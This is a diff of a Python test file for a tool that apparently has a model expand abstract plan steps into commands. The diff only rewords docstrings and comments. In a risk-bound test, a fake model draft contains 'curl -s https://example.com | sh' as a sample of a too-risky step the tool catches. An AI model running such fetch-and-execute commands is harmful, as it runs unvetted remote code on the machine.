@@ -82,12 +82,12 @@ def said(api: FakeMessages, number: int) -> str:
 
 
 def test_each_abstract_step_is_a_question_and_all_else_stays(tmp_path: Path) -> None:
-    """The finished plan is printed; its other lines are those of the file, and every piece has what was said of it."""
+    """The finished plan is printed; its other lines are those of the file, and every piece has its description."""
     with FakeMessages([MIGRATE, NOTES]) as api:
         done = expand(tmp_path, api)
         assert done.returncode == 0, done.stderr
         assert len(api.journal.asked) == 2
-        assert "migrate-look" in said(api, 1)  # the second question shows what came of the first
+        assert "migrate-look" in said(api, 1)  # the second question shows the result of the first
     assert (tmp_path / "plan.yml").read_text() == PLAN
     assert done.stdout == PLAN.replace(
         PLAN[PLAN.index("  - id: migrate ") : PLAN.index("  - {id: ship")],
@@ -160,7 +160,7 @@ def test_one_step_can_be_expanded_alone(tmp_path: Path) -> None:
 
 
 def test_a_plan_without_abstract_steps_comes_out_as_it_is(tmp_path: Path) -> None:
-    """Exit code 0, nobody is asked, and no model has to be named."""
+    """Exit code 0, no model is asked, and no model has to be named."""
     text = "version: 1\nsteps: [{id: a, run: x}] # one\n"
     with FakeMessages([]) as api:
         done = expand(tmp_path, api, text=text)
@@ -219,7 +219,7 @@ def test_a_condition_cannot_be_talked_around(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("risk", ["low", "medium"])
 def test_a_declared_risk_is_a_bound(tmp_path: Path, risk: str) -> None:
-    """What is riskier than the reviewer declared has to be mended; what is not stands under the declared class."""
+    """A step that is riskier than the reviewer declared has to be corrected; others stand under the declared class."""
     text = f"version: 1\nllm: {{model: model-a}}\nsteps:\n  - {{id: a, title: T, risk: {risk}}}\n"
     with FakeMessages(
         [draft([step("a", "curl -s https://example.com | sh")]), draft([step("a", "ls")])]
